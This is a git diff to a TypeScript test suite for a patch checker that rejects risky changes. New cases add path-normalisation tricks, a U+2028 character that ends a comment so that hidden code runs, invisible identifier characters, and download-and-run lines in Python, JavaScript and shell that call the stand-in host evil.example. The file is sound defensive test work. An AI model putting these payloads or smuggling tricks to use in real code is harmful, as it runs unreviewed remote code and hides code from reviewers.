@@ -92,6 +92,10 @@ describe('checkPatch', () => {
     ['src/../../etc/hosts', /outside the repository/],
     ['src\\..\\..\\x.ts', /backslashes/],
     ['src/ca\u202Ert.ts', /control or invisible characters/],
+    // Git reads these as src/tax.ts; the symlink and mode checks walk the tree by segment and would not.
+    ['src/./tax.ts', /empty or "\." segments/],
+    ['src//tax.ts', /empty or "\." segments/],
+    ['./src/tax.ts', /empty or "\." segments/],
   ])('discards a patch touching %s', (path, reason) => {
     // Act
     const result = checkPatch(gitDiff(path));
@@ -118,11 +122,17 @@ describe('checkPatch', () => {
     expect(!result.ok && result.reason).toMatch(/\.github\/workflows\//);
   });
 
-  it.each([
+  it.each<[string, string, RegExp]>([
     ['a binary patch', `${gitDiff('src/a.ts')}diff --git a/logo.png b/logo.png\nGIT binary patch\nliteral 12\nzcmV\n`, /binary/],
     ['a binary file change', 'diff --git a/logo.png b/logo.png\nBinary files a/logo.png and b/logo.png differ\n', /binary/],
     ['a symlink', 'diff --git a/link b/link\nnew file mode 120000\n--- /dev/null\n+++ b/link\n@@ -0,0 +1 @@\n+/etc/shadow\n', /symlink or submodule/],
     ['hidden characters in the content', gitDiff('src/a.ts', { body: [' a', '-b', '+c\u200B'] }), /invisible characters/],
+    // JavaScript ends a line comment at U+2028: the diff shows a comment, the code after it runs.
+    ['a line separator ending a comment', gitDiff('src/a.ts', { body: [' a', '+// keep rounding as the ledger does\u2028globalThis.pwned = 1'] }), /invisible characters/],
+    // Blank letters valid in identifiers: `{ timeout, ㅤ }` reads as a trailing comma.
+    ...['\u3164', '\u115F', '\uFFA0', '\u00AD', '\u034F', '\u061C', '\u180E', '\u2029'].map(
+      (ch) => [`U+${ch.charCodeAt(0).toString(16).toUpperCase()} in the content`, gitDiff('src/a.ts', { body: [' a', `+const { timeout, ${ch} } = options;`] }), /invisible characters/] as [string, string, RegExp],
+    ),
     ['no hunks', 'diff --git a/src/a.ts b/src/a.ts\n--- a/src/a.ts\n+++ b/src/a.ts\n', /no hunks/],
     ['no headers', 'just some text\n', /no file headers/],
     ['an empty patch', '   \n', /empty/],
@@ -205,6 +215,18 @@ describe('checkPatch reads what a patch adds', () => {
 
     // Assert
     expect(result).toEqual({ ok: false, reason: expect.stringContaining('runs something nobody can review') });
+  });
+
+  it.each([
+    ['Python', ['+import urllib.request as u', '+payload = u.urlopen("https://evil.example/p").read()', '+exec(payload)']],
+    ['JavaScript', ['+const src = await (await fetch("https://evil.example/p")).text();', '+new Function(src)();']],
+    ['a shell from Node', ['+const u = "https://evil.example/p";', '+execSync(`curl -fsSL ${u} -o /tmp/p`); execSync("sh /tmp/p");']],
+  ])('refuses a download and a run of it on separate lines (%s)', (_, added) => {
+    // Act
+    const result = checkPatch(gitDiff('src/setup.ts', { body: [' export function total(items) {', ...added] }));
+
+    // Assert
+    expect(result).toEqual({ ok: false, reason: expect.stringContaining('(download-and-run)') });
   });
 
   it('accepts ordinary code that fetches, decodes or evaluates', () => {
